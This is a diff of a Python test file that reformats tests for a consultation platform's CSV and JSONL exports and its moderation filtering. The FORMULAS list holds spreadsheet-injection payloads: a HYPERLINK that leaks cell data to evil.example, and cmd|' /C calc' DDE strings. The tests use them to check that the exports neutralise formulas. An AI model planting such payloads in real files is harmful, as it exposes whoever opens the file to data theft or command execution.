@@ -4,6 +4,7 @@ and moderated statements only.
 Everything goes through the real participant routes (answers, citizen proposals), the organiser's moderation
 routes and the partner routes, over one database.
 """
+
 from __future__ import annotations
 
 import json
@@ -18,7 +19,7 @@ from tests.results.test_results import EVERY_KIND, _walk
 SLUG = EVERY_KIND["slug"]
 
 
-async def export(partner, key: str, name: str, slug: str = SLUG) -> str:  # noqa: ANN001
+async def export(partner, key: str, name: str, slug: str = SLUG) -> str:
     response = await partner.get(f"/v1/consultations/{slug}/export/{name}", headers=auth(key))
     assert response.status_code == 200, (name, response.text)
     return response.text
@@ -104,37 +105,48 @@ async def test_exports_and_results_name_every_answer_the_same_way(partner, http,
 
 
 CITIZENS = {
-    "ideas": {"type": "proposal", "prompt": {"en": "Agree?"}, "proposals": texts(2, "Idea"),
-              "allow_citizen_proposals": True},
-    "best": {"type": "pairs", "prompt": {"en": "Better?"}, "proposals": texts(2, "Pair"),
-             "allow_citizen_proposals": True},
+    "ideas": {
+        "type": "proposal",
+        "prompt": {"en": "Agree?"},
+        "proposals": texts(2, "Idea"),
+        "allow_citizen_proposals": True,
+    },
+    "best": {
+        "type": "pairs",
+        "prompt": {"en": "Better?"},
+        "proposals": texts(2, "Pair"),
+        "allow_citizen_proposals": True,
+    },
     "why": {"type": "free_text", "prompt": {"en": "Why?"}},
 }
 
 
-async def citizens_consultation(db, slug: str) -> None:  # noqa: ANN001
+async def citizens_consultation(db, slug: str) -> None:
     """One author writes everything here (these tests are about cells and moderation, not the disclosure rule),
     so the consultation releases from one participant."""
-    await create(db, {"slug": slug, "min_segment_size": 1,
-                      "items": [{"key": key, **item} for key, item in CITIZENS.items()]})
+    await create(
+        db, {"slug": slug, "min_segment_size": 1, "items": [{"key": key, **item} for key, item in CITIZENS.items()]}
+    )
 
 
-async def propose(http, pid: str, item_id: int, text: str) -> int:  # noqa: ANN001
-    response = await http.post(f"/participant/{pid}/proposals", json={"item_id": item_id, "text": text,
-                                                                      "language": "en"})
+async def propose(http, pid: str, item_id: int, text: str) -> int:
+    response = await http.post(
+        f"/participant/{pid}/proposals", json={"item_id": item_id, "text": text, "language": "en"}
+    )
     assert response.status_code == 201, response.text
     return response.json()["id"]
 
 
-async def item_ids(http, pid: str, slug: str) -> dict[str, int]:  # noqa: ANN001
+async def item_ids(http, pid: str, slug: str) -> dict[str, int]:
     """The ids of the items, from the participant's screens (votes and pairs move them along)."""
     ids: dict[str, int] = {}
     while (current := await screen(http, pid, slug))["status"] == "item":
         item = current["item"]
         ids[item["key"]] = item["id"]
         if item["kind"] == "proposal":
-            await http.post(f"/participant/{pid}/votes", json={"proposal_id": current["proposal"]["id"],
-                                                              "choice": "agree"})
+            await http.post(
+                f"/participant/{pid}/votes", json={"proposal_id": current["proposal"]["id"], "choice": "agree"}
+            )
         elif item["kind"] == "pairs":
             await http.post(f"/participant/{pid}/pairs/{current['pair']['token']}", json={"outcome": "left"})
         else:
@@ -142,8 +154,14 @@ async def item_ids(http, pid: str, slug: str) -> dict[str, int]:  # noqa: ANN001
     return ids
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for your prize")', "+1+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\tTabbed =1+1 formula", "\r=1+1 after CR"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your prize")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\tTabbed =1+1 formula",
+    "\r=1+1 after CR",
+]
 
 
 async def test_csv_cells_that_start_like_a_formula_are_neutralised_and_jsonl_stays_raw(partner, http, db):
@@ -163,8 +181,10 @@ async def test_csv_cells_that_start_like_a_formula_are_neutralised_and_jsonl_sta
     raw = {r["item"]: r for r in jsonl_rows(await export(partner, key, "answers.jsonl", "formulas"))}
     assert raw["why"]["value"] == FORMULAS[0]
 
-    bodies = {name: await export(partner, key, name, "formulas")
-              for name in ("answers.csv", "aoi/ideas.csv", "polis/comments.csv", "aoi/votes.csv")}
+    bodies = {
+        name: await export(partner, key, name, "formulas")
+        for name in ("answers.csv", "aoi/ideas.csv", "polis/comments.csv", "aoi/votes.csv")
+    }
     aoi = {r["Idea Text"] for r in csv_rows(bodies["aoi/ideas.csv"])}
     polis = {r["comment-body"] for r in csv_rows(bodies["polis/comments.csv"])}
     for n, text in enumerate(FORMULAS[1:4]):
@@ -177,33 +197,45 @@ async def test_csv_cells_that_start_like_a_formula_are_neutralised_and_jsonl_sta
 
 def test_every_formula_prefix_of_the_owasp_rule_is_neutralised():
     assert [formats.csv_safe(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
-    assert [formats.csv_safe(v) for v in ("Plain text", "", -1, 3.5, None, "a=b")] == ["Plain text", "", -1, 3.5,
-                                                                                         None, "a=b"]
+    assert [formats.csv_safe(v) for v in ("Plain text", "", -1, 3.5, None, "a=b")] == [
+        "Plain text",
+        "",
+        -1,
+        3.5,
+        None,
+        "a=b",
+    ]
 
 
 async def test_partners_get_accepted_proposals_only(partner, http, db):
     await citizens_consultation(db, "moderated")
     pid = await fresh_participant(http, "moderated", "author")
     ids = await item_ids(http, pid, "moderated")
-    texts_by_status = {"accepted": "Plant more trees along the river", "rejected": "Call my neighbour Ivan on 0501234567",
-                       "pending": "Paint every bench in bright yellow"}
+    texts_by_status = {
+        "accepted": "Plant more trees along the river",
+        "rejected": "Call my neighbour Ivan on 0501234567",
+        "pending": "Paint every bench in bright yellow",
+    }
     for item in ("ideas", "best"):
         for status, text in texts_by_status.items():
             proposal = await propose(http, pid, ids[item], text)
             if status == "accepted":
                 assert (await http.post(f"/organiser/proposals/{proposal}/accept")).status_code == 200
             elif status == "rejected":
-                assert (await http.post(f"/organiser/proposals/{proposal}/reject",
-                                        json={"reason": "other"})).status_code == 200
+                assert (
+                    await http.post(f"/organiser/proposals/{proposal}/reject", json={"reason": "other"})
+                ).status_code == 200
     key = await new_key(db, "moderated")
     comments = csv_rows(await export(partner, key, "polis/comments.csv", "moderated"))
     assert [r["comment-body"] for r in comments] == [t["en"] for t in CITIZENS["ideas"]["proposals"]] + [
-        texts_by_status["accepted"]]
+        texts_by_status["accepted"]
+    ]
     assert {r["moderated"] for r in comments} == {"1"}
     assert [r["author-id"] != "" for r in comments] == [False, False, True]
     ideas = csv_rows(await export(partner, key, "aoi/ideas.csv", "moderated"))
     assert [r["Idea Text"] for r in ideas] == [t["en"] for t in CITIZENS["best"]["proposals"]] + [
-        texts_by_status["accepted"]]
+        texts_by_status["accepted"]
+    ]
     for name in ("answers.csv", "answers.jsonl", "aoi/votes.csv", "polis/votes.csv", "aoi/non_votes.csv"):
         body = await export(partner, key, name, "moderated")
         assert texts_by_status["rejected"] not in body and texts_by_status["pending"] not in body, name
